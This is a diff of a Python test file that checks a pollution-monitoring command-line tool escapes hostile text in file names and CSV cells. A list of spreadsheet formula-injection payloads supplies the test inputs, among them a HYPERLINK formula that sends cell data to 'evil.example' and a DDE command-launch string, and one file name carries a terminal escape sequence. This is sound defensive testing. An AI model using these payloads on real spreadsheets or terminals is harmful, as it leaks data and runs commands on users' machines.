@@ -1,8 +1,8 @@
 """Issue 13, items 14 and 15: what the command line prints cannot attack the reader.
 
-Each test runs the real CLI in a subprocess on a real SQLite file, as an operator would
-(`python -m monitoring … > file.csv`, or on a terminal), with hostile text in a file name
-and in cells.
+Each test runs the real CLI on a real SQLite file, as an operator would (`python -m
+monitoring … > file.csv`, or on a terminal), with hostile text in a file name and in cells:
+through cli.main in-process (tests/cli.py), and once as a real process.
 """
 
 from __future__ import annotations
@@ -20,6 +20,7 @@ import pytest
 
 from monitoring.exports import neutralise_text
 from monitoring.printable import printable, printable_json
+from tests.cli import run_cli
 
 ROOT = Path(__file__).resolve().parents[2]
 #: Any character a terminal may act on, except the line ends print() itself writes.
@@ -29,11 +30,23 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'
 
 
 def _cli(tmp_path: Path, *argv: str) -> subprocess.CompletedProcess[str]:
+    return run_cli(*argv, env={"DATABASE_URL": f"sqlite:///{tmp_path / 'cli.db'}", "MONITOR_LOAD_DEMO": "0"})
+
+
+def test_the_real_entry_point_in_a_process(tmp_path: Path) -> None:
+    """The one test that starts ``python -m monitoring`` (the others call cli.main in-process,
+    tests/cli.py): the exit status, both streams and the escaping reach a real process's pipes."""
+    good = tmp_path / "good.csv"
+    good.write_text("subdistrict,time,pollutant,value\n德胜,2026-01-05 13:00,pm25,30\n", encoding="utf-8")
     env = {**os.environ, "DATABASE_URL": f"sqlite:///{tmp_path / 'cli.db'}", "MONITOR_LOAD_DEMO": "0",
            "PYTHONIOENCODING": "utf-8"}
     env.pop("TEST_DATABASE_URL", None)
-    return subprocess.run([sys.executable, "-m", "monitoring", *argv], cwd=ROOT, env=env, capture_output=True,
-                          text=True, encoding="utf-8", timeout=120, check=False)
+    done = subprocess.run([sys.executable, "-m", "monitoring", "ingest", str(tmp_path / "no\x1b[31m.csv"), str(good)],
+                          cwd=ROOT, env=env, capture_output=True, text=True, encoding="utf-8", timeout=120, check=False)
+    assert done.returncode == 1, done.stderr
+    assert done.stdout.startswith("good.csv: stored 1 of 1 readings rows"), done.stdout
+    assert done.stderr.count("\n") == 1 and "no\\x1b[31m.csv: no such file" in done.stderr, done.stderr
+    assert "Traceback" not in done.stderr and not RAW_CONTROL.search(done.stderr)
 
 
 def test_report_csv_neutralises_formulas_like_the_downloads(tmp_path: Path) -> None:
